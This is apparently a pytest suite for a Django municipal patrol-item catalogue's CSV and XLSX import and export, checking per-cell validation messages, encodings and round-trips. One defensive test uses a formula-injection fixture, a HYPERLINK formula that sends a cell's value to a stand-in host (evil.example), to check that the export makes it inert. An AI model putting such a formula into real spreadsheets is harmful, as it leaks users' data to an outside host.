"""The patrol item catalogue import and export: every bad input is refused, naming its row and column."""

import csv
import io

import openpyxl
import pytest
from django.core.management import CommandError, call_command

from cityops.audit.models import AuditRecord
from cityops.cases.catalogue import MAX_BYTES, catalogue_export, catalogue_import
from cityops.cases.catalogue_rows import COLUMNS
from cityops.cases.models import ItemCategory, PatrolItem
from cityops.core.errors import ValidationFailed
from cityops.org.models import Department

pytestmark = pytest.mark.django_db

HEADER = [code for code, _, _ in COLUMNS]
CHINESE = [zh for _, zh, _ in COLUMNS]


@pytest.fixture
def departments(db):
    Department.objects.create(code="D-CG", name="城市管理局", in_grid=True)
    Department.objects.create(code="D-XF", name="消防救援", in_grid=True)


def item(**over) -> dict:
    base = {
        "code": "SJ010101",
        "name": "暴露垃圾（街面）",
        "kind": "event",
        "big_category_code": "SJ01",
        "big_category_name": "市容环境",
        "small_category_code": "SJ0101",
        "small_category_name": "暴露垃圾",
        "department_code": "D-CG",
        "filing_condition": "垃圾暴露堆放超过0.5平方米",
        "closing_condition": "清除干净，无残留",
        "urgency": "normal",
        "resident_reportable": "yes",
        "on_the_spot": "no",
        "dispatch_limit": "1",
        "dispatch_unit": "hours",
        "disposal_limit": "1",
        "disposal_unit": "days",
        "recheck_limit": "4",
        "recheck_unit": "hours",
        "active": "yes",
    }
    return {**base, **over}


def items() -> list[dict]:
    return [
        item(),
        item(code="SJ010102", name="暴露垃圾（城中村）", on_the_spot="yes"),
        item(
            code="BJ011501",
            name="消火栓（缺失）",
            kind="component",
            big_category_code="BJ01",
            big_category_name="公用设施类",
            small_category_code="BJ0115",
            small_category_name="消火栓",
            department_code="D-XF",
            urgency="urgent",
            resident_reportable="no",
            dispatch_limit="30",
            dispatch_unit="minutes",
            disposal_limit="2",
            disposal_unit="hours",
            filing_condition="=消火栓缺失",  # would be a formula in a spreadsheet, must stay text
        ),
    ]


def csv_bytes(rows: list[dict], header: list[str] = HEADER, encoding: str = "utf-8", keys=HEADER) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    for row in rows:
        writer.writerow([row.get(k, "") for k in keys])
    return out.getvalue().encode(encoding)


def snapshot():
    return (
        PatrolItem.objects.count(),
        ItemCategory.objects.count(),
        AuditRecord.objects.count(),
        list(PatrolItem.objects.values_list("code", "name", "disposal_limit", "active")),
    )


def refused(data: bytes, filename: str = "items.csv") -> ValidationFailed:
    before = snapshot()
    with pytest.raises(ValidationFailed) as exc:
        catalogue_import(data=data, filename=filename, actor_name="test")
    assert snapshot() == before, "a refused import must write nothing"
    assert "nothing was written" in exc.value.detail
    return exc.value


def one_error(row, column, message) -> list[dict]:
    where = ", ".join(p for p in (f"row {row}" if row else "", f"column {column}" if column else "") if p)
    return [{"row": row, "column": column, "message": f"{where}: {message}" if where else message}]


def test_a_clean_import_writes_categories_and_items_and_one_audit_record(departments):
    result = catalogue_import(data=csv_bytes(items()), filename="items.csv", actor_name="test")

    assert (result.created, result.updated, result.unchanged) == (3, 0, 0)
    assert (result.categories_created, result.categories_updated) == (4, 0)
    hydrant = PatrolItem.objects.select_related("category__parent", "big_category", "department").get(
        code="BJ011501"
    )
    assert (hydrant.kind, hydrant.urgency, hydrant.resident_reportable, hydrant.on_the_spot) == (
        "component",
        "urgent",
        False,
        False,
    )
    assert (hydrant.dispatch_limit, hydrant.dispatch_unit, hydrant.disposal_limit, hydrant.disposal_unit) == (
        30,
        "minutes",
        2,
        "hours",
    )
    assert hydrant.category.code == "BJ0115" and hydrant.category.parent == hydrant.big_category
    assert hydrant.big_category.parent is None and hydrant.big_category.name == "公用设施类"
    assert hydrant.department.code == "D-XF"
    assert hydrant.filing_condition == "=消火栓缺失"
    rec = AuditRecord.objects.get(action="cases.catalogue.import")
    assert (rec.actor, rec.after["created"], rec.after["file"]) == ("test", 3, "items.csv")


def test_importing_the_same_file_twice_changes_nothing(departments):
    data = csv_bytes(items())
    catalogue_import(data=data, filename="items.csv")
    before = snapshot()

    again = catalogue_import(data=data, filename="items.csv")

    assert (again.created, again.updated, again.unchanged, again.changed) == (0, 0, 3, False)
    assert snapshot() == before


def test_a_changed_limit_updates_that_item_and_the_audit_names_the_change(departments):
    catalogue_import(data=csv_bytes(items()), filename="items.csv")
    rows = items()
    rows[1]["disposal_limit"] = "2"

    result = catalogue_import(data=csv_bytes(rows), filename="items.csv")

    assert (result.created, result.updated, result.unchanged) == (0, 1, 2)
    assert PatrolItem.objects.get(code="SJ010102").disposal_limit == 2
    rec = AuditRecord.objects.filter(action="cases.catalogue.import").order_by("id").last()
    assert rec.after["changes"] == {"SJ010102": {"disposal_limit": [1, 2]}}


def test_an_absent_optional_column_leaves_the_stored_value_and_a_blank_cell_means_the_default(departments):
    rows = items()
    rows[0]["active"] = "no"
    catalogue_import(data=csv_bytes(rows), filename="items.csv")
    without_active = [code for code in HEADER if code != "active"]
    rows[1]["urgency"] = ""

    catalogue_import(data=csv_bytes(rows, without_active, keys=without_active), filename="items.csv")

    assert PatrolItem.objects.get(code="SJ010101").active is False
    assert PatrolItem.objects.get(code="SJ010102").urgency == "normal"


BAD_CELLS = [
    ("disposal_limit", "3天", "'3天' is not a whole number"),
    ("dispatch_limit", "2.5", "'2.5' is not a whole number"),
    ("dispatch_limit", "0", "0 is not between 1 and 10000"),
    ("recheck_limit", "-4", "-4 is not between 1 and 10000"),
    ("recheck_limit", "10001", "10001 is not between 1 and 10000"),
    ("kind", "设施", "'设施' is not a kind; use component or event (部件/事件)"),
    ("urgency", "high", "'high' is not an urgency; use normal or urgent (一般/紧急)"),
    (
        "disposal_unit",
        "weeks",
        "'weeks' is not a time unit; use minutes, hours or days (工作分钟/工作时/工作日)",
    ),
    ("on_the_spot", "maybe", "'maybe' is not yes or no; use yes/no, 是/否, true/false or 1/0"),
    ("active", "Y", "'Y' is not yes or no; use yes/no, 是/否, true/false or 1/0"),
    ("code", "X" * 33, "'XXXXXXXXXXXXXXXXXXXX…' has 33 characters, more than 32"),
    ("small_category_code", "S" * 17, "'SSSSSSSSSSSSSSSSS…' has 17 characters, more than 16"),
    ("name", "", "a value is required"),
    ("department_code", "", "a value is required"),
    ("dispatch_unit", "", "a value is required"),
    ("name", "暴露\x07垃圾", "contains a control character"),
    ("department_code", "D-NONE", "no department has the code 'D-NONE'"),
]


@pytest.mark.parametrize(("column", "value", "message"), BAD_CELLS)
def test_a_bad_cell_is_refused_naming_its_row_and_column(departments, column, value, message):
    rows = items()
    rows[2][column] = value

    exc = refused(csv_bytes(rows))

    assert exc.errors == one_error(4, column, message)


def test_a_missing_required_column_is_one_error_naming_it(departments):
    header = [code for code in HEADER if code != "disposal_unit"]

    exc = refused(csv_bytes(items(), header, keys=header))

    assert exc.errors == one_error(
        1, "disposal_unit", "the required column disposal_unit (处置时限单位) is missing"
    )


def test_an_unknown_column_is_one_error_however_many_rows_fill_it(departments):
    rows = [{**row, "remarks": "备注"} for row in items()]

    exc = refused(csv_bytes(rows, [*HEADER, "remarks"], keys=[*HEADER, "remarks"]))

    assert exc.errors == one_error(1, "remarks", "unknown column 'remarks'")


def test_an_unknown_or_doubled_column_is_refused(departments):
    header = [*HEADER, "remarks", "事项编码"]
    rows = [{**row, "remarks": "x", "code2": row["code"]} for row in items()]

    exc = refused(csv_bytes(rows, header, keys=[*HEADER, "remarks", "code2"]))

    assert exc.errors == [
        *one_error(1, "remarks", "unknown column 'remarks'"),
        *one_error(1, "code", "the column appears twice ('code' and '事项编码')"),
    ]


def test_a_value_in_a_column_without_a_header_is_refused(departments):
    rows = items()
    rows[0]["extra"] = "stray"

    exc = refused(csv_bytes(rows, keys=[*HEADER, "extra"]))

    assert exc.errors == one_error(2, "U", "'stray' stands in a column without a header")


def test_a_code_used_twice_in_the_file_is_refused_at_its_second_row(departments):
    rows = items()
    rows[2]["code"] = "SJ010101"

    exc = refused(csv_bytes(rows))

    assert exc.errors == one_error(4, "code", "'SJ010101' is already the code of row 2")


def test_a_small_category_keeps_its_big_category_kind_and_name_within_the_file(departments):
    rows = items()
    rows[1].update(big_category_code="SJ02", big_category_name="宣传广告")
    rows[2].update(small_category_code="SJ0101", small_category_name="垃圾")

    exc = refused(csv_bytes(rows))

    assert exc.errors == [
        *one_error(3, "big_category_code", "small category 'SJ0101' belongs to 'SJ01' in row 2, not 'SJ02'"),
        *one_error(4, "big_category_code", "small category 'SJ0101' belongs to 'SJ01' in row 2, not 'BJ01'"),
        *one_error(4, "kind", "small category 'SJ0101' is of kind event in row 2, not component"),
        *one_error(4, "small_category_name", "small category 'SJ0101' is named '暴露垃圾' in row 2"),
    ]


def test_a_big_category_keeps_its_kind_and_name_and_is_never_a_small_one(departments):
    rows = items()
    rows[1].update(big_category_name="市容")
    rows[2].update(big_category_code="SJ01", small_category_code="SJ01")

    exc = refused(csv_bytes(rows))

    assert exc.errors == [
        *one_error(3, "big_category_name", "big category 'SJ01' is named '市容环境' in row 2"),
        *one_error(4, "kind", "big category 'SJ01' is of kind event in row 2, not component"),
        *one_error(4, "big_category_name", "big category 'SJ01' is named '市容环境' in row 2"),
        *one_error(4, "small_category_code", "'SJ01' is a big category in row 2"),
    ]


def test_a_stored_category_keeps_its_place_and_kind(departments):
    catalogue_import(data=csv_bytes(items()), filename="items.csv")
    moved = item(code="N1", big_category_code="SJ02", big_category_name="宣传广告")
    turned = {**items()[2], "code": "N2", "kind": "event"}
    promoted = item(code="N3", big_category_code="SJ0101", small_category_code="SJ0199")

    exc = refused(csv_bytes([moved, turned, promoted]))

    assert exc.errors == [
        *one_error(2, "big_category_code", "small category 'SJ0101' already belongs to 'SJ01', not 'SJ02'"),
        *one_error(3, "kind", "category 'BJ01' is already of kind component, not event"),
        *one_error(3, "kind", "category 'BJ0115' is already of kind component, not event"),
        *one_error(4, "big_category_code", "'SJ0101' is a small category in row 2"),
        *one_error(4, "big_category_code", "'SJ0101' is already a small category of 'SJ01'"),
    ]


def test_every_problem_is_reported_in_row_order_and_at_most_200_are_listed(departments):
    rows = [item(code=f"E{n}", dispatch_limit="x") for n in range(250)]

    exc = refused(csv_bytes(rows))

    assert len(exc.errors) == 200
    assert [e["row"] for e in exc.errors] == list(range(2, 202))
    assert "250 problem(s) found" in exc.detail
    assert "The first 200 are listed; 50 more are not." in exc.detail


@pytest.mark.parametrize(
    ("data", "filename", "message"),
    [
        (b"", "items.csv", "row 1: the file has no header row"),
        (",".join(HEADER).encode() + b"\r\n\r\n,,\r\n", "items.csv", "the file has a header row but no items"),
        (b"code,name\r\n", "items.xls", "'items.xls' is not a .csv or .xlsx file (an .xls workbook must be saved as .xlsx)"),
        (b"code,name\r\n", "items.xlsx", "the file is not a readable XLSX workbook (BadZipFile: File is not a zip file)"),
        (b"code,name\r\nA1,\xff\xfe\r\n", "items.csv", "the file is neither UTF-8 nor GBK/GB18030: byte 0xff at offset 14 cannot be read"),
    ],
)  # fmt: skip
def test_an_unreadable_file_is_one_error(departments, data, filename, message):
    exc = refused(data, filename)

    assert [e["message"] for e in exc.errors] == [message]


def test_a_file_over_10_mb_is_refused(departments):
    data = csv_bytes(items()) + b" " * MAX_BYTES

    exc = refused(data)

    assert exc.errors == one_error(
        None, None, f"the file is {len(data) / 1024 / 1024:.1f} MB; the limit is 10 MB"
    )


def test_a_file_of_more_than_20000_items_is_refused(departments):
    rows = [item(code=f"E{n:05d}") for n in range(20_001)]

    exc = refused(csv_bytes(rows))

    assert exc.errors == one_error(
        None, None, "the file has more than 20000 items; split it into several files"
    )


def _codes_and_fields():
    return list(
        PatrolItem.objects.order_by("code").values_list(
            "code", "name", "kind", "category__code", "big_category__code", "department__code", "urgency",
            "resident_reportable", "on_the_spot", "dispatch_limit", "dispatch_unit", "disposal_limit",
            "disposal_unit", "recheck_limit", "recheck_unit", "active", "filing_condition",
        )
    )  # fmt: skip


CHINESE_VALUES = {"event": "事件", "component": "部件", "normal": "一般", "urgent": "紧急", "yes": "是", "no": "否",
                  "minutes": "工作分钟", "hours": "工作时", "days": "工作日"}  # fmt: skip


@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-8-sig", "utf-8"])
def test_chinese_headers_and_values_in_gbk_or_utf8(departments, encoding):
    catalogue_import(data=csv_bytes(items()), filename="items.csv")
    expected = _codes_and_fields()
    PatrolItem.objects.all().delete()
    rows = [{k: CHINESE_VALUES.get(v, v) for k, v in row.items()} for row in items()]

    result = catalogue_import(data=csv_bytes(rows, CHINESE, encoding=encoding), filename="条目.CSV")

    assert result.created == 3
    assert _codes_and_fields() == expected


def test_an_error_in_a_chinese_file_names_the_column_as_the_file_does(departments):
    rows = items()
    rows[0]["disposal_limit"] = "3天"

    exc = refused(csv_bytes(rows, CHINESE, encoding="gbk"))

    assert exc.errors == [
        {
            "row": 2,
            "column": "disposal_limit",
            "message": "row 2, column 处置时限 (disposal_limit): '3天' is not a whole number",
        }
    ]


def test_an_xlsx_workbook_is_read_from_the_sheet_named_for_the_catalogue(departments):
    book = openpyxl.Workbook()
    book.active.title = "说明"
    book.active.append(["本表说明"])
    sheet = book.create_sheet("巡查事项")
    sheet.append(CHINESE)
    for row in items():
        # numbers as a spreadsheet holds them; no "=" text, which openpyxl would write as a formula
        numbers = {k: int(row[k]) for k in ("dispatch_limit", "disposal_limit", "recheck_limit")}
        sheet.append([{**row, **numbers, "filing_condition": "缺失"}[k] for k in HEADER])
    sheet.append([])
    out = io.BytesIO()
    book.save(out)

    result = catalogue_import(data=out.getvalue(), filename="items.xlsx")

    assert result.created == 3
    hydrant = PatrolItem.objects.get(code="BJ011501")
    assert (hydrant.dispatch_limit, hydrant.filing_condition) == (30, "缺失")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_imports_back_unchanged(departments, fmt):
    catalogue_import(data=csv_bytes(items()), filename="items.csv")
    before = (_codes_and_fields(), snapshot())

    data = catalogue_export(fmt=fmt)
    result = catalogue_import(data=data, filename=f"export.{fmt}")

    assert (result.created, result.updated, result.unchanged) == (0, 0, 3)
    assert (_codes_and_fields(), snapshot()) == before
    if fmt == "csv":
        assert catalogue_export(fmt=fmt) == data


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_looking_text_is_exported_inert_and_imports_back_unchanged(departments, fmt):
    rows = items()
    rows[0]["filing_condition"] = '=HYPERLINK("http://evil.example/?"&A2,"详情")'
    rows[1]["closing_condition"] = "''-以整改为准"  # a CSV cell escaped once, as the export writes it
    catalogue_import(data=csv_bytes(rows), filename="items.csv")
    assert PatrolItem.objects.get(code="SJ010102").closing_condition == "'-以整改为准"
    before = _codes_and_fields()

    data = catalogue_export(fmt=fmt)

    if fmt == "csv":
        assert ",\"'=HYPERLINK(" in data.decode("utf-8-sig")  # an apostrophe: a spreadsheet shows text
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        cell = next(c for row in sheet.iter_rows() for c in row if str(c.value).startswith("=HYPERLINK"))
        assert cell.data_type == "s" and cell.quotePrefix
    assert catalogue_import(data=data, filename=f"export.{fmt}").unchanged == 3
    assert _codes_and_fields() == before
    assert PatrolItem.objects.get(code="SJ010102").closing_condition == "'-以整改为准"


def test_the_csv_export_has_a_bom_and_the_english_header(departments):
    catalogue_import(data=csv_bytes(items()), filename="items.csv")

    data = catalogue_export(fmt="csv", queryset=PatrolItem.objects.filter(kind="event"))

    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0] == ",".join(HEADER)
    assert [line.split(",")[0] for line in lines[1:]] == ["SJ010101", "SJ010102"]


def test_the_commands_import_print_counts_or_errors_and_export_by_extension(departments, tmp_path):
    good, bad = tmp_path / "items.csv", tmp_path / "bad.csv"
    good.write_bytes(csv_bytes(items()))
    rows = items()
    rows[0]["disposal_limit"] = "3天"
    bad.write_bytes(csv_bytes(rows))
    out, err = io.StringIO(), io.StringIO()

    call_command("items-import", str(good), stdout=out)
    with pytest.raises(CommandError, match="1 problem"):
        call_command("items-import", str(bad), stdout=out, stderr=err)
    call_command("items-export", str(tmp_path / "out.xlsx"), stdout=out)
    with pytest.raises(CommandError, match=r"\.csv or \.xlsx"):
        call_command("items-export", str(tmp_path / "out.txt"), stdout=out)

    assert "items created 3, updated 0, unchanged 0; categories created 4, updated 0." in out.getvalue()
    assert "row 2, column disposal_limit: '3天' is not a whole number" in err.getvalue()
    assert "Wrote 3 items" in out.getvalue()
    assert catalogue_import(data=(tmp_path / "out.xlsx").read_bytes(), filename="out.xlsx").unchanged == 3


def test_the_admin_lists_and_exports_the_catalogue(client, users):
    catalogue_import(data=csv_bytes(items()), filename="items.csv")
    client.force_login(users["admin"])

    assert client.get("/admin/cases/patrolitem/").status_code == 200
    assert client.get("/admin/cases/itemcategory/").status_code == 200
    ids = list(PatrolItem.objects.values_list("pk", flat=True))
    resp = client.post("/admin/cases/patrolitem/", {"action": "export_csv", "_selected_action": ids})

    assert resp.status_code == 200
    assert b"".join(resp.streaming_content).startswith(b"\xef\xbb\xbf")


def test_an_item_added_in_the_admin_takes_its_kind_and_big_category_from_its_small_category(client, users):
    catalogue_import(data=csv_bytes(items()), filename="items.csv")
    client.force_login(users["admin"])
    hydrants = ItemCategory.objects.get(code="BJ0115")
    form = {
        "code": "BJ011502",
        "name": "消火栓（漏水）",
        "department": Department.objects.get(code="D-XF").pk,
        "urgency": "normal",
        "dispatch_limit": 2,
        "dispatch_unit": "hours",
        "disposal_limit": 2,
        "disposal_unit": "days",
        "recheck_limit": 1,
        "recheck_unit": "days",
        "active": "on",
    }

    refused_big = client.post("/admin/cases/patrolitem/add/", {**form, "category": hydrants.parent_id})
    resp = client.post("/admin/cases/patrolitem/add/", {**form, "category": hydrants.pk})

    assert refused_big.status_code == 200 and "category" in refused_big.context["adminform"].form.errors
    assert resp.status_code == 302, resp.content.decode()[:500]
    added = PatrolItem.objects.get(code="BJ011502")
    assert (added.kind, added.big_category_id) == ("component", hydrants.parent_id)
    assert AuditRecord.objects.filter(action="cases.patrolitem.create", object_id=str(added.pk)).exists()
